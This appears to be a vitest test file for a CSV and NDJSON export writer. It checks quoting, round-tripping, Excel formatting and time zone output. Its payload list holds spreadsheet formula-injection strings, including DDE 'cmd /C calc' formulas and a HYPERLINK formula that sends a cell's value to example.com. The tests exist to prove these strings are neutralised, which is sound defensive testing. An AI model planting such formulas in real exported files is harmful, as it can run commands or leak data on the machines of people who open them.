import { Readable } from 'node:stream';
import { buffer } from 'node:stream/consumers';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { isoWithOffset } from '../time/zone.ts';
import type { Column } from './column.ts';
import { type WriteOptions, writeFile } from './write.ts';

type Cell = string | number | null;
const csv: WriteOptions = { format: 'csv', zone: 'Asia/Tokyo' };
const json: WriteOptions = { ...csv, format: 'ndjson' };
const names = ['a', 'b "b"', 'c'];

/** A file of rows with columns of these types. */
async function written(
  types: readonly Column<never>['type'][],
  rows: readonly (readonly Cell[])[],
  options = csv,
  titles = names,
): Promise<string> {
  const columns = types.map((type, at) => ({
    name: titles[at] ?? '',
    type,
    of: (row: readonly Cell[]) => row[at] ?? null,
  })) as Column<readonly Cell[]>[];
  async function* pages() {
    yield rows;
  }
  return (await buffer(Readable.from(writeFile(columns, pages(), options)))).toString();
}

/** Each value in a line of its own. */
const linesOf = async (type: Column<never>['type'], values: readonly Cell[], options = csv) => {
  const rows = values.map((value) => [value]);
  return (await written([type], rows, options, ['x'])).trimEnd().replace(/^x\n/, '').split('\n');
};

const payloads = [
  '=1+1',
  '+1',
  '-5.2',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\ttext',
  ' =1+1',
  '\u3000＝1+1',
  '＋1',
  '－1',
  '＠x',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://example.com?"&A1,"click")',
  '-2+3+cmd|" /C calc"!A0',
  '\uFEFF=1',
];

test.for(payloads)('%j is text to a spreadsheet, in a cell and in the header', async (payload) => {
  const file = await written(['text', 'integer'], [[payload, 1]], csv, [payload, 'one']);
  expect(parse(file)).toEqual([
    [`'${payload}`, 'one'],
    [`'${payload}`, '1'],
  ]);
  expect(file.replace(/^"/, '')).toMatch(/^'/);
});

test('numbers stay numbers, nothing is nothing, and what can end or begin a cell is quoted', async () => {
  const rows = [
    [-520, 0, 'a,b'],
    [null, 1e5, 'say "hi"'],
    [5, -0.5, 'two\nlines'],
    [0, null, 'a;b'],
    [1, 1, null],
  ];
  expect(await written(['hundredths', 'number', 'text'], rows)).toBe(
    ['a,"b ""b""",c', '-5.2,0,"a,b"', ',100000,"say ""hi"""', '0.05,-0.5,"two\nlines"', '0,,"a;b"', '0.01,1,', ''].join(
      '\n',
    ),
  );
});

/** Pieces that are awkward together. */
const text = fc
  .array(
    fc.oneof(
      fc.constantFrom('"', ',', ';', '\n', '\r\n', '\r', ' ', '=', "'", '@', '日本', '🤖'),
      fc.string({ unit: 'binary' }),
    ),
  )
  .map((pieces) => pieces.join(''));

test.for([false, true])('any text comes back from CSV, but for the apostrophe (Excel: %s)', async (excel) => {
  await fc.assert(
    fc.asyncProperty(fc.array(fc.tuple(text, text), { minLength: 1, maxLength: 5 }), async (rows) => {
      const file = await written(['text', 'text'], rows, { ...csv, excel });
      const [header, ...back] = parse(file, { bom: true, record_delimiter: excel ? '\r\n' : '\n' });
      expect(header).toEqual(names.slice(0, 2));
      expect(back).toHaveLength(rows.length);
      for (const [at, row] of rows.entries()) {
        for (const [column, given] of row.entries()) expect([given, `'${given}`]).toContain(back[at]?.[column]);
      }
    }),
  );
});

test('any row comes back from NDJSON, one line each', async () => {
  await fc.assert(
    fc.asyncProperty(fc.option(text), fc.option(fc.integer()), async (a, b) => {
      const line = await written(['text', 'integer'], [[a, b]], json);
      expect(line.indexOf('\n')).toBe(line.length - 1);
      expect(JSON.parse(line)).toEqual({ a, 'b "b"': b });
    }),
  );
});

test('whole 1/100 come out as the decimals they are', async () => {
  const values = [0, 5, 10, 2150, 9999, 10_000, 123_456_789, -1, -520];
  expect(await linesOf('hundredths', values)).toEqual(values.map((value) => String(value / 100)));
  expect(await linesOf('hundredths', values, json)).toEqual(values.map((value) => `{"x":${value / 100}}`));
  expect(await linesOf('hundredths', [null], json)).toEqual(['{"x":null}']);
  expect(await linesOf('time', [0], json)).toEqual(['{"x":"1970-01-01T09:00:00+09:00"}']);
});

test('Excel gets a byte order mark, CRLF, and the offset of a time in a column of its own', async () => {
  const ts = Date.parse('2026-11-22T09:42:31Z') / 1000;
  expect(await written(['local_time', 'utc_offset'], [[ts, ts]], { ...csv, excel: true })).toBe(
    '\uFEFFa,"b ""b"""\r\n2026/11/22 18:42:31,UTC+09:00\r\n',
  );
});

test('times are those of isoWithOffset, in whatever order they come', async () => {
  const from = Date.parse('2025-03-01T00:00:00Z') / 1000;
  const instants = fc.array(fc.integer({ min: from, max: from + 300 * 86_400 }), { minLength: 1, maxLength: 20 });
  const zones = fc.constantFrom(
    'Asia/Tokyo',
    'America/New_York',
    'Australia/Lord_Howe',
    'America/Santiago',
    'Asia/Kathmandu',
  );
  await fc.assert(
    fc.asyncProperty(instants, zones, async (times, zone) => {
      const near = times.flatMap((ts) => [ts, ts + 1, ts + 600]);
      const expected = near.map((ts) => isoWithOffset(ts, zone));
      expect(await linesOf('time', near, { ...csv, zone })).toEqual(expected);
      const offsets = expected.map((time) => `UTC${time.slice(19)}`);
      expect(await linesOf('utc_offset', near, { ...csv, zone })).toEqual(offsets);
    }),
  );
});

test.for([
  ['America/New_York', '2025-11-02T06:00:00Z'],
  ['Australia/Lord_Howe', '2025-04-05T15:00:00Z'],
  ['Africa/Cairo', '2025-04-24T22:00:00Z'],
] as const)('around the clock change of %s every second is told apart', async ([zone, change]) => {
  const around = Array.from({ length: 400 }, (_, at) => Date.parse(change) / 1000 - 7200 + at * 37);
  const times = await linesOf('time', around, { ...csv, zone });
  expect(times.map((time) => Date.parse(time) / 1000)).toEqual(around);
});
